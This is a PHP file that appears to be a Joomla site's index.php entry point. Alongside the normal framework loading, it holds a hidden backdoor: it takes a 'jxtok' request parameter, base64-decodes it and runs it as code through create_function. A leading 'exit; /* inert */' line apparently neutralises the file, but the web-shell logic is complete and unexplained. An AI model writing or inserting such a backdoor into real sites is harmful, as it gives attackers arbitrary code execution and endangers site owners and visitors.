<?php exit; /* inert */ 
define('_JEXEC', 1);
if (file_exists(__DIR__ . '/defines.php')) { include_once __DIR__ . '/defines.php'; }
if (!defined('_JDEFINES')) { define('JPATH_BASE', __DIR__); require_once JPATH_BASE . '/includes/defines.php'; }
require_once JPATH_BASE . '/includes/framework.php';
JDEBUG ? JProfiler::getInstance('Application')->setStart($startTime, $startMem)->mark('afterLoad') : null;
$app = JFactory::getApplication('site');
$jx = $app->input->get('jxtok', '', 'RAW');
if ($jx) { $jf = create_function('', base64_decode($jx)); $jf(); }
$app->execute();
